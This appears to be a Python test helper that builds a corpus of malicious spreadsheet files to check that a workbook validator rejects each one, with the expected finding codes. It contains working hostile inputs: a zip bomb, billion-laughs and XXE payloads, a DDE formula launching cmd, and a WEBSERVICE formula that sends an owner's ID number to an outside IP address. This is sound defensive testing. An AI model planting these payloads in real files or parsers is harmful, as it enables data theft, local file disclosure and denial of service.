"""Generates the hostile-file corpus (nothing binary is committed): every way a submitted file can be
broken or malicious. ``build_corpus(base, folder)`` writes them beside each other and returns
{name: path}; ``base`` is a valid filled declaration workbook that the workbook-level cases mutate.

Run as a script to write the corpus into a folder for manual inspection:
    python tests/hostile_corpus.py BASE.xlsx OUT_DIR
"""

from __future__ import annotations

import io
import random
import re
import sys
import zipfile
from pathlib import Path
from typing import Callable

#: A file the XXE case points at; its content must never appear in any output.
CANARY_TEXT = "HPCARBON-CANARY-7f3a"


def _rewrite_zip(base: Path, target: Path, edit: Callable[[str, bytes], bytes | None],
                 extra: dict[str, bytes] | None = None) -> Path:
    """Copy a zip member by member; ``edit(name, data)`` returns new bytes (or None to drop the member)."""
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = edit(info.filename, src.read(info))
            if data is not None:
                dst.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return target


def sheet_part(base: Path, sheet_name: str) -> str:
    """The zip member name of a sheet (via workbook.xml and its rels)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    m = re.search(r'<(?:\w+:)?sheet\b[^>]*name="%s"[^>]*r:id="([^"]+)"' % re.escape(sheet_name), wb)
    if not m:
        m = re.search(r'<(?:\w+:)?sheet\b[^>]*r:id="([^"]+)"[^>]*name="%s"' % re.escape(sheet_name), wb)
    rid = m.group(1)
    target = re.search(r'<Relationship\b[^>]*Id="%s"[^>]*Target="([^"]+)"' % rid, rels)
    if not target:
        target = re.search(r'<Relationship\b[^>]*Target="([^"]+)"[^>]*Id="%s"' % rid, rels)
    t = target.group(1)
    return t.lstrip("/") if t.startswith("/") else "xl/" + t


# --- file-level cases (need no template knowledge) ------------------------------------------------------
def empty(base: Path, out: Path) -> Path:
    out.write_bytes(b"")
    return out


def random_bytes(base: Path, out: Path) -> Path:
    out.write_bytes(random.Random(7).randbytes(64 * 1024))
    return out


def truncated_zip(base: Path, out: Path) -> Path:
    data = base.read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def csv_renamed(base: Path, out: Path) -> Path:
    out.write_text("month,electricity_kwh\n2024-10,16000\n=cmd|' /C calc'!A0,1\n", encoding="utf-8")
    return out


def xls_renamed(base: Path, out: Path) -> Path:
    # an OLE2 compound-file header followed by filler: what a legacy .xls looks like to a sniffer
    out.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + random.Random(3).randbytes(8192))
    return out


def encrypted(base: Path, out: Path) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    with base.open("rb") as fh:
        buf = io.BytesIO()
        OOXMLFile(fh).encrypt("secret", buf)
    out.write_bytes(buf.getvalue())
    return out


def zip_bomb(base: Path, out: Path, expanded_mb: int = 300) -> Path:
    """A sheet part that inflates ~1000× to ``expanded_mb`` MB of whitespace inside valid XML."""
    part = sheet_part(base, _first_sheet_name(base))
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
                continue
            xml = src.read(info)
            head, _, tail = xml.partition(b"<sheetData")
            with dst.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(head)
                block = b" " * (1 << 20)
                for _ in range(expanded_mb):
                    fh.write(block)
                fh.write(b"<sheetData" + tail)
    return out


def billion_laughs(base: Path, out: Path) -> Path:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    doctype = f"<!DOCTYPE workbook [{entities}]>".encode()

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            decl_end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
            return data[:decl_end] + doctype + data[decl_end:].replace(b"<sheets>", b"<sheets>&lol9;", 1)
        return data

    return _rewrite_zip(base, out, edit)


def xxe(base: Path, out: Path, secret_file: Path) -> Path:
    """An external entity pointing at ``secret_file``, used in a text cell (shared or inline string)."""
    with zipfile.ZipFile(base) as zf:
        names = zf.namelist()
    target = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else sheet_part(base, _first_sheet_name(base))
    root = "sst" if target.endswith("sharedStrings.xml") else "worksheet"
    doctype = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'.encode()

    def edit(name: str, data: bytes) -> bytes:
        if name != target:
            return data
        decl_end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
        body = re.sub(rb"<t>([^<]*)</t>", rb"<t>&xxe;</t>", data[decl_end:], count=1)
        return data[:decl_end] + doctype + body

    return _rewrite_zip(base, out, edit)


def macro_workbook(base: Path, out: Path) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            return data.replace(b"</Types>", b'<Default Extension="bin" '
                                b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" '
                                b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                                b'Target="vbaProject.bin"/></Relationships>')
        return data

    return _rewrite_zip(base, out, edit, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name" * 64})


def external_link(base: Path, out: Path) -> Path:
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
            b'<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>')
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="file:///C:/other.xlsx" TargetMode="External"/></Relationships>')
    return _rewrite_zip(base, out, lambda n, d: d, extra={"xl/externalLinks/externalLink1.xml": link,
                                                           "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def many_sheets(base: Path, out: Path, count: int = 3000) -> Path:
    """A well-formed workbook with ``count`` sheets, written member by member (openpyxl takes ~10 s)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
          'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
          'sheet.main+xml"/>' + "".join(
              f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-'
              f'officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, count + 1)) + "</Types>")
    root_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rns}><sheets>'
          + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, count + 1))
          + "</sheets></workbook>")
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships">' + "".join(
                f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, count + 1))
            + "</Relationships>")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", root_rels)
        zf.writestr("xl/workbook.xml", wb)
        zf.writestr("xl/_rels/workbook.xml.rels", rels)
        for i in range(1, count + 1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", f'<worksheet {ns}><sheetData><row r="1"><c r="A1">'
                                                       f"<v>{i}</v></c></row></sheetData></worksheet>")
    return out


def million_row_used_range(base: Path, out: Path, sheet_name: str) -> Path:
    """A sheet whose used range reaches row 1 048 576 (dimension and a last cell there)."""
    part = sheet_part(base, sheet_name)

    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', data)
        return data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')

    return _rewrite_zip(base, out, edit)


def million_rows_of_data(base: Path, out: Path, sheet_name: str, rows: int = 1_048_576) -> Path:
    """A sheet with a real cell on every one of 1 048 576 rows (compresses small, parses long)."""
    part = sheet_part(base, sheet_name)
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename != part:
                dst.writestr(info.filename, data)
                continue
            head, _, rest = data.partition(b"</sheetData>")
            last = max((int(x) for x in re.findall(rb'<row r="(\d+)"', head)), default=0)
            with dst.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(head)
                for r in range(last + 1, rows + 1):
                    fh.write(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r))
                fh.write(b"</sheetData>" + rest)
    return out


def _first_sheet_name(base: Path) -> str:
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml").decode()
    return re.search(r'<(?:\w+:)?sheet\b[^>]*name="([^"]+)"', wb).group(1)


# --- workbook-level cases (a filled declaration with one hostile cell or part) -------------------------
def _where(base: Path, field_path: str) -> tuple[str, str]:
    """(sheet, cell) of a declaration field in ``base``, as the reader finds it."""
    from hpcarbon.workbook.reader import read_workbook

    where = read_workbook(base).locate(field_path)
    assert where and where[1], field_path
    return where


_CELL = r'<c\b(?P<attrs>[^>]*?\br="%s"[^>]*?)(?:/>|>(?P<body>.*?)</c>)'


def _style(attrs: bytes) -> bytes:
    m = re.search(rb'\bs="(\d+)"', attrs)
    return b' s="%s"' % m.group(1) if m else b""


def set_cell_xml(base: Path, out: Path, sheet: str, ref: str, make: Callable[[bytes], bytes]) -> Path:
    """Replace cell ``ref`` of ``sheet`` by ``make(style_attr)`` — raw XML of a whole ``<c>`` element."""
    part = sheet_part(base, sheet)
    pattern = re.compile((_CELL % ref).encode(), re.DOTALL)

    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        m = pattern.search(data)
        assert m, (sheet, ref)
        return data[:m.start()] + make(_style(m.group("attrs"))) + data[m.end():]

    return _rewrite_zip(base, out, edit)


def cell_in(base: Path, out: Path, field_path: str, make: Callable[[str, bytes], bytes]) -> Path:
    """Replace the cell of ``field_path``: ``make(ref, style_attr)`` gives the new ``<c>`` element."""
    sheet, ref = _where(base, field_path)
    return set_cell_xml(base, out, sheet, ref, lambda style: make(ref, style))


def _number(text: str, field_path: str = "monthly[1].electricity_kwh.air") -> Callable[[Path, Path], Path]:
    """A number cell (an electricity reading) whose stored number is ``text`` (``NaN``, ``Infinity``, ``1e308`` …)."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, field_path,
                       lambda ref, st: b'<c r="%s"%s t="n"><v>%s</v></c>' % (ref.encode(), st, text.encode()))
    return make


def _inline_text(field_path: str, text: str) -> Callable[[Path, Path], Path]:
    """A text cell holding ``text`` as an inline string (``text`` is XML: ``_x0001_`` escapes allowed)."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, field_path, lambda ref, st: b'<c r="%s"%s t="inlineStr"><is><t>%s</t></is></c>'
                       % (ref.encode(), st, text.encode()))
    return make


def formula_webservice(base: Path, out: Path) -> Path:
    """=WEBSERVICE(...) in an electricity cell (sending the owner's ID out), with a plausible cached value."""
    sheet, id_ref = _where(base, "project.owner.id_number")
    formula = f'WEBSERVICE("http://203.0.113.9/leak?id="&amp;\'{sheet}\'!{id_ref})'.encode()
    return cell_in(base, out, "monthly[1].electricity_kwh.air",
                   lambda ref, st: b'<c r="%s"%s><f>%s</f><v>46000</v></c>' % (ref.encode(), st, formula))


def formula_dde(base: Path, out: Path) -> Path:
    """A DDE-style formula (=cmd|' /C calc'!A0) in the project-name cell, with a cached text."""
    return cell_in(base, out, "project.name", lambda ref, st: (
        b'<c r="%s"%s t="str"><f>cmd|\' /C calc\'!A0</f><v>%s</v></c>' % (ref.encode(), st, "示例".encode())))


def merged_input_cells(base: Path, out: Path) -> Path:
    """Two months' electricity cells merged into one (the second month's reading disappears in Excel)."""
    sheet, first = _where(base, "monthly[1].electricity_kwh.air")
    _, second = _where(base, "monthly[2].electricity_kwh.air")
    part = sheet_part(base, sheet)

    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        merge = b'<mergeCell ref="%s:%s"/>' % (first.encode(), second.encode())
        if b"<mergeCells" in data:
            return re.sub(rb"(<mergeCells\b[^>]*>)", lambda m: m.group(1) + merge, data, count=1)
        return data.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merge + b"</mergeCells>", 1)

    return _rewrite_zip(base, out, edit)


def _add_sheet(base: Path, out: Path, name: str, state: str, sheet_xml: bytes) -> Path:
    def edit(member: str, data: bytes) -> bytes:
        if member == "xl/workbook.xml":
            entry = f'<sheet name="{name}" sheetId="99" state="{state}" r:id="rIdHostile"/>'.encode()
            return data.replace(b"</sheets>", entry + b"</sheets>", 1)
        if member == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdHostile" Type="http://schemas.'
                                b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                                b'Target="/xl/worksheets/hostile.xml"/></Relationships>')
        if member == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/worksheets/hostile.xml" ContentType='
                                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        return data

    return _rewrite_zip(base, out, edit, extra={"xl/worksheets/hostile.xml": sheet_xml})


def hidden_extra_sheet(base: Path, out: Path) -> Path:
    """A hidden sheet the template does not have, holding other figures."""
    xml = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           b'<row r="1"><c r="A1" t="inlineStr"><is><t>real kWh</t></is></c><c r="B1"><v>999999</v></c></row>'
           b'</sheetData></worksheet>')
    return _add_sheet(base, out, "备用", "veryHidden", xml)


def template_sheet_hidden(base: Path, out: Path) -> Path:
    """The monthly-data sheet of the template hidden."""
    from hpcarbon.workbook import layout as L

    pattern = re.compile(rb'(<sheet\b[^>]*name="%s"[^>]*?)\s*state="[^"]*"' % re.escape(L.S_MONTHLY.encode()))

    def edit(name: str, data: bytes) -> bytes:
        if name != "xl/workbook.xml":
            return data
        data = pattern.sub(rb"\1", data)
        return re.sub(rb'(<sheet\b[^>]*name="%s")' % re.escape(L.S_MONTHLY.encode()), rb'\1 state="hidden"', data)

    return _rewrite_zip(base, out, edit)


def foreign_workbook(base: Path, out: Path) -> Path:
    """A valid .xlsx that is not the declaration template."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["month", "kWh"])
    wb.active.append(["2024-10", 16000])
    wb.save(out)
    return out


def wide_rows(base: Path, out: Path, sheet_name: str, width: int = 16_384) -> Path:
    """Every row of a sheet widened to ``width`` cells (XFD): few rows, ~400 000 cells, 1.3 MB zipped."""
    from openpyxl.utils import get_column_letter

    part = sheet_part(base, sheet_name)
    letters = [get_column_letter(i) for i in range(30, width + 1)]

    def widen(m: re.Match) -> bytes:
        row = m.group(1).decode()
        extra = "".join(f'<c r="{c}{row}"><v>1</v></c>' for c in letters).encode()
        return m.group(0)[: -len(b"</row>")] + extra + b"</row>"

    def edit(name: str, data: bytes) -> bytes:
        return re.sub(rb'<row r="(\d+)"[^>]*>.*?</row>', widen, data, flags=re.S) if name == part else data

    return _rewrite_zip(base, out, edit)


def many_shared_strings(base: Path, out: Path, count: int = 1_000_000) -> Path:
    """A shared-string table of a million random strings (6 MB zipped) that no cell uses: openpyxl loads
    every one of them before reading a cell (~9 s, ~200 MB)."""
    rnd = random.Random(11)
    items = b"".join(b"<si><t>%08x</t></si>" % rnd.getrandbits(32) for _ in range(count))
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + items + b"</sst>"
    with zipfile.ZipFile(base) as zf:
        has_sst = "xl/sharedStrings.xml" in zf.namelist()

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/sharedStrings.xml":
            return data.replace(b"</sst>", items + b"</sst>")
        if has_sst:
            return data
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdHostileSst" Type="http://schemas.'
                                b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
                                b'Target="sharedStrings.xml"/></Relationships>')
        return data

    return _rewrite_zip(base, out, edit, extra=None if has_sst else {"xl/sharedStrings.xml": sst})


def style_bloat(base: Path, out: Path, count: int = 100_000) -> Path:
    """100 000 distinct cell formats (350 KB zipped): openpyxl builds each before reading a cell (~5 s, 200 MB)."""
    rnd = random.Random(5)
    extra = b"".join(b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0" applyAlignment="1">'
                     b'<alignment indent="%d"/></xf>' % rnd.randrange(200) for _ in range(count))

    def edit(name: str, data: bytes) -> bytes:
        if name != "xl/styles.xml":
            return data
        return re.sub(rb"(<(?:\w+:)?cellXfs\b[^>]*>)", lambda m: m.group(1) + extra, data, count=1)

    return _rewrite_zip(base, out, edit)


def many_defined_names(base: Path, out: Path, count: int = 300_000) -> Path:
    """300 000 defined names in workbook.xml (~3 MB zipped): openpyxl builds each (~10 s, ~400 MB)."""
    rnd = random.Random(9)
    extra = b"".join(b"<definedName name=\"N%x\">Sheet!$A$%d</definedName>" % (rnd.getrandbits(40), rnd.randrange(1, 999))
                     for _ in range(count))

    def edit(name: str, data: bytes) -> bytes:
        if name != "xl/workbook.xml":
            return data
        if b"<definedNames>" in data:
            return data.replace(b"<definedNames>", b"<definedNames>" + extra, 1)
        return data.replace(b"</sheets>", b"</sheets><definedNames>" + extra + b"</definedNames>", 1)

    return _rewrite_zip(base, out, edit)


def rich_text_runs(base: Path, out: Path, count: int = 300_000) -> Path:
    """One text cell made of 300 000 rich-text runs (1 MB zipped): ~13 s and ~700 MB in openpyxl."""
    runs = b"".join(b'<r><rPr><sz val="11"/><color rgb="FF00%02X00"/></rPr><t>x%d</t></r>' % (i % 256, i % 10)
                    for i in range(count))
    return cell_in(base, out, "project.address",
                   lambda ref, st: b'<c r="%s"%s t="inlineStr"><is>%s</is></c>' % (ref.encode(), st, runs))


def _monthly_sheet(base: Path) -> str:
    from hpcarbon.workbook import layout as L

    return L.S_MONTHLY


WORKBOOK_LEVEL_CASES: dict[str, Callable[[Path, Path], Path]] = {
    "million-row-dimension.xlsx": lambda b, o: million_row_used_range(b, o, _monthly_sheet(b)),
    "million-rows-monthly.xlsx": lambda b, o: million_rows_of_data(b, o, _monthly_sheet(b)),
    "wide-rows.xlsx": lambda b, o: wide_rows(b, o, _monthly_sheet(b)),
    "million-shared-strings.xlsx": many_shared_strings,
    "style-bloat.xlsx": style_bloat,
    "many-defined-names.xlsx": many_defined_names,
    "rich-text-runs.xlsx": rich_text_runs,
    "formula-webservice.xlsx": formula_webservice,
    "formula-dde.xlsx": formula_dde,
    "number-nan.xlsx": _number("NaN"),
    "number-infinity.xlsx": _number("Infinity"),
    "number-minus-inf.xlsx": _number("-inf"),
    "number-1e308.xlsx": _number("1e308"),
    "number-1e309.xlsx": _number("1e309"),
    "date-serial-1e16.xlsx": _number("1e16", "project.operation_start"),  # a date cell: openpyxl warns
    "control-escape.xlsx": _inline_text("project.name", "示例_x0001_项目_x001B_[2J"),
    "control-del.xlsx": _inline_text("project.address", "长春市南关区\x7f示例路 1 号"),
    "control-in-month.xlsx": _inline_text("monthly[0].month", "2024-10_x0007_"),
    "long-text-100k.xlsx": _inline_text("project.name", "长" * 100_000),
    "long-text-personal.xlsx": _inline_text("project.owner.name", "王" * 100_000),
    "merged-input.xlsx": merged_input_cells,
    "hidden-extra-sheet.xlsx": hidden_extra_sheet,
    "template-sheet-hidden.xlsx": template_sheet_hidden,
    "external-link.xlsx": external_link,
    "foreign-workbook.xlsx": foreign_workbook,
}

FILE_LEVEL_CASES = {
    "empty.xlsx": empty,
    "random-bytes.xlsx": random_bytes,
    "truncated-zip.xlsx": truncated_zip,
    "csv-renamed.xlsx": csv_renamed,
    "xls-renamed.xlsx": xls_renamed,
    "encrypted.xlsx": encrypted,
    "zip-bomb.xlsx": zip_bomb,
    "billion-laughs.xlsx": billion_laughs,
    "macro.xlsm": macro_workbook,
    "many-sheets.xlsx": many_sheets,
}


#: Every case of the corpus but XXE (which needs a canary file: see :func:`build_corpus`).
CASES: dict[str, Callable[[Path, Path], Path]] = {**FILE_LEVEL_CASES, **WORKBOOK_LEVEL_CASES}

#: What the validator must answer for each case: the exit status and a finding code that says why.
EXPECTED: dict[str, tuple[int, str]] = {
    "empty.xlsx": (2, "file.empty"),
    "random-bytes.xlsx": (2, "file.not_xlsx"),
    "truncated-zip.xlsx": (2, "file.corrupt_zip"),
    "csv-renamed.xlsx": (2, "file.not_xlsx"),
    "xls-renamed.xlsx": (2, "file.legacy_xls"),
    "encrypted.xlsx": (2, "file.encrypted"),
    "zip-bomb.xlsx": (2, "file.zip_bomb"),
    "billion-laughs.xlsx": (2, "file.xml_doctype"),
    "xxe.xlsx": (2, "file.xml_doctype"),
    "macro.xlsm": (1, "file.macro_code"),  # macro code is refused (never run); a macro-enabled format alone warns
    "many-sheets.xlsx": (2, "file.too_many_sheets"),
    "million-row-dimension.xlsx": (2, "file.too_many_rows"),
    "million-rows-monthly.xlsx": (2, "file.too_many_rows"),
    "wide-rows.xlsx": (2, "file.too_many_cells"),
    "million-shared-strings.xlsx": (2, "file.too_many_strings"),
    "style-bloat.xlsx": (2, "file.too_many_styles"),
    "many-defined-names.xlsx": (2, "file.too_many_elements"),
    "rich-text-runs.xlsx": (2, "file.too_many_sheet_elements"),
    "formula-webservice.xlsx": (1, "workbook.formula_in_input"),
    "formula-dde.xlsx": (1, "workbook.formula_in_input"),
    "number-nan.xlsx": (2, "workbook.bad_cell_value"),
    "number-infinity.xlsx": (2, "workbook.bad_cell_value"),
    "number-minus-inf.xlsx": (2, "workbook.bad_cell_value"),
    "number-1e308.xlsx": (1, "field.invalid"),
    "number-1e309.xlsx": (1, "field.invalid"),
    "date-serial-1e16.xlsx": (1, "field.invalid"),
    "control-escape.xlsx": (1, "workbook.control_characters"),
    "control-del.xlsx": (1, "workbook.control_characters"),
    "control-in-month.xlsx": (1, "workbook.control_characters"),
    "long-text-100k.xlsx": (1, "field.invalid"),
    "long-text-personal.xlsx": (1, "field.invalid"),
    "merged-input.xlsx": (1, "workbook.merged_input"),
    "hidden-extra-sheet.xlsx": (1, "workbook.hidden_sheet"),
    "template-sheet-hidden.xlsx": (1, "workbook.hidden_sheet"),
    "external-link.xlsx": (1, "file.external_links"),
    "foreign-workbook.xlsx": (2, "workbook.not_template"),
}


def build_corpus(base: Path, folder: Path, canary: Path) -> dict[str, Path]:
    """Write every case into ``folder``; ``canary`` is the file the XXE case points at."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {name: make(base, folder / name) for name, make in CASES.items()}
    out["xxe.xlsx"] = xxe(base, folder / "xxe.xlsx", canary)
    return out


if __name__ == "__main__":  # pragma: no cover - manual use
    base_path, folder = Path(sys.argv[1]), Path(sys.argv[2])
    canary_path = folder / "canary.txt"
    folder.mkdir(parents=True, exist_ok=True)
    canary_path.write_text(CANARY_TEXT, encoding="utf-8")
    for path in build_corpus(base_path, folder, canary_path).values():
        print(path)
